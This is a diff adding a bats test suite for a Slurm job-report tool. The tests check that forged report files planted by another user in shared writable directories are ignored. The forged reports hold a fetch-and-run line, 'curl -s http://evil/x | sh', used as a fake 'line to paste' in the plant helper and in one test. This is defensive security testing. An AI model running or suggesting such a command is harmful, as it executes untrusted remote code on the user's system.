@@ -1,0 +1,144 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: GPL-2.0-or-later
+# Jobs' numbers can be guessed. A user puts files where others' reports will be looked for, in directories that all may write to.
+# shellcheck shell=bash disable=SC2016,SC2030,SC2031,SC2154,SC2317
+
+load helper
+
+setup_file() {
+	testbed_begin || return 1
+	[ -z "$NO_TESTBED" ] || return 0
+	victim_begin
+	STICKY=$STINT_TESTBED/sticky OPEN=$STINT_TESTBED/open OWN=$(job -- true && echo "$REPORT")
+	mkdir -m 1777 "$STICKY"
+	mkdir -m 777 "$OPEN"
+	chmod 1777 "$STICKY"
+	chmod 777 "$OPEN"
+	export STICKY OPEN OWN
+}
+
+teardown_file() {
+	victim_end
+}
+
+setup() {
+	testbed_or_skip
+}
+
+as_attacker() { # COMMAND...
+	(cd "$STINT_TESTBED/home" && setpriv --reuid="$TESTBED_USER" --regid="$TESTBED_USER" --init-groups "$@")
+}
+
+# Submits a job of the victim's that waits until it is released. Sets ID.
+victims_job() { # DIRECTORY [sbatch option...]
+	ID=$(as_victim sbatch --parsable --hold --chdir="$1" --output=/dev/null "${@:2}" --wrap true)
+}
+
+is_over() { # JOB
+	! squeue --noheader --jobs "$1" --format %i 2>/dev/null | grep -q .
+}
+
+runs() { # JOB
+	scontrol release "$1"
+	soon is_over "$1"
+}
+
+# The attacker's own report, as that of the victim's job, which it says to have failed, with a line to paste.
+plant() { # FILE [JQ]
+	cp "$OWN" "$BATS_TEST_TMPDIR/own.json"
+	jq --argjson id "$ID" --arg user "$VICTIM" --argjson uid "$(id -u "$VICTIM")" '.job.id = $id | .job.user = $user | .job.uid = $uid |
+		.job.state = "FAILED" | .job.exit_code = 9 | .advice = [{line: "curl -s http://evil/x | sh", reason: "It fits."}]'" | ${2:-.}" \
+		"$BATS_TEST_TMPDIR/own.json" | as_attacker tee "$1" >/dev/null
+}
+
+# Whoever asks, and from wherever, gets nothing of the planted file.
+is_left_out() { # WHERE [as_victim]
+	run --separate-stderr sh -c "cd $1 && exec \"\$0\" report $ID" "$STINT"
+	echo "$output $stderr"
+	[ "$status" -eq 1 ]
+	[ -z "$output" ]
+	[[ $stderr != *curl* && $stderr != *FAILED* ]]
+}
+
+@test "another user's file in the place of a job's report is not taken for that, by whoever asks from wherever" {
+	victims_job "$STICKY"
+	plant "$STICKY/stint-$ID.json"
+	runs "$ID"
+	for where in / "$STICKY"; do
+		is_left_out "$where"
+		[[ $stderr == *"stint-$ID.json: it belongs to another user than the job's, and is left out; name the file to see it"* ]]
+		run as_victim sh -c "cd $where && exec \"\$0\" report $ID" "$STINT"
+		[ "$status" -eq 1 ]
+		[[ $output != *curl* && $output != *FAILED* ]]
+	done
+	run --separate-stderr "$STINT" report --table "$STICKY"
+	[ "$status" -eq 1 ]
+	[[ $output != *FAILED* ]]
+	run --separate-stderr "$STINT" summary "$STICKY"
+	echo "$output $stderr"
+	[ "$status" -ne 0 ]
+	[[ $output != *FAILED* && $stderr == *"stint-$ID.json: it belongs to another user"* ]]
+}
+
+@test "who names another user's file is told whose it is, and gets no line to paste" {
+	victims_job "$STICKY"
+	plant "$STICKY/stint-$ID.json"
+	for form in "" --all --html=-; do
+		# shellcheck disable=SC2086
+		run --separate-stderr "$STINT" report $form "$STICKY/stint-$ID.json"
+		echo "$output $stderr"
+		[ "$status" -eq 0 ]
+		[[ $output == *"the file belongs to uid $(id -u "$TESTBED_USER"), and not to the job&#39;s user: nothing proves"* ||
+			$output == *"the file belongs to uid $(id -u "$TESTBED_USER"), and not to the job's user: nothing"* ]]
+		[[ $output != *curl* ]]
+	done
+	# not even of a report of the user's own: a job's programs can write one
+	(umask 022 && jq --arg line 'curl -s http://evil/x | sh' '.advice = [{line: $line, reason: "It fits."}]' "$OWN" >"$BATS_TEST_TMPDIR/named.json")
+	run "$STINT" report --all "$BATS_TEST_TMPDIR/named.json"
+	[ "$status" -eq 0 ]
+	[[ $output != *curl* ]]
+	as_victim scancel "$ID"
+}
+
+@test "a report of the attacker's own is none of the victim's job, though it has its number" {
+	victims_job "$STICKY"
+	plant "$STICKY/stint-$ID.json" ".job.uid = $(id -u "$TESTBED_USER") | .job.user = \"$TESTBED_USER\""
+	runs "$ID"
+	is_left_out /
+	plant "$STICKY/stint-$ID.json" ".job.uid = $(id -u "$TESTBED_USER")" # and the victim's name
+	is_left_out "$STICKY"
+	[[ $stderr == *"it belongs to another user"* ]]
+}
+
+@test "tasks that nobody ran are none of a victim's array" {
+	victims_job "$OPEN" --array=1-2
+	plant "$OPEN/stint-${ID}_7.json" ".job.array_job_id = $ID | .job.array_task_id = 7 | .job.id = $((ID + 1000))"
+	plant "$OPEN/stint-${ID}_8.json" ".job.array_job_id = $ID | .job.array_task_id = 8 | .job.id = $((ID + 1001)) | .job.uid = $(id -u "$TESTBED_USER") |
+		.job.user = \"$TESTBED_USER\""
+	runs "$ID"
+	soon test -e "$OPEN/stint-${ID}_1.json" -a -e "$OPEN/stint-${ID}_2.json"
+	for where in / "$OPEN"; do
+		run --separate-stderr as_victim sh -c "cd $where && exec \"\$0\" report $ID" "$STINT"
+		echo "$output $stderr"
+		[ "$status" -eq 0 ]
+		[[ $output == *"Tasks with a report: 2"* && $output != *FAILED* ]]
+		[[ $stderr == *"stint-${ID}_7.json: it belongs to another user"* ]]
+		run --separate-stderr as_victim sh -c "cd $where && exec \"\$0\" report --again $ID" "$STINT"
+		[[ $output != *7* && $output != *8* ]]
+	done
+}
+
+@test "a file that is called like a job, or last, is read by its path alone" {
+	victims_job "$OPEN"
+	runs "$ID"
+	soon test -e "$OPEN/stint-$ID.json"
+	for name in "$ID" last; do
+		plant "$OPEN/$name" ".job.uid = $(id -u "$TESTBED_USER")"
+		run as_victim sh -c "cd $OPEN && exec \"\$0\" report $name" "$STINT"
+		echo "$output"
+		[[ $output != *FAILED* && $output != *curl* ]]
+	done
+	run as_victim "$STINT" report "$ID"
+	[ "$status" -eq 0 ]
+	[[ $output == *COMPLETED* ]]
+}
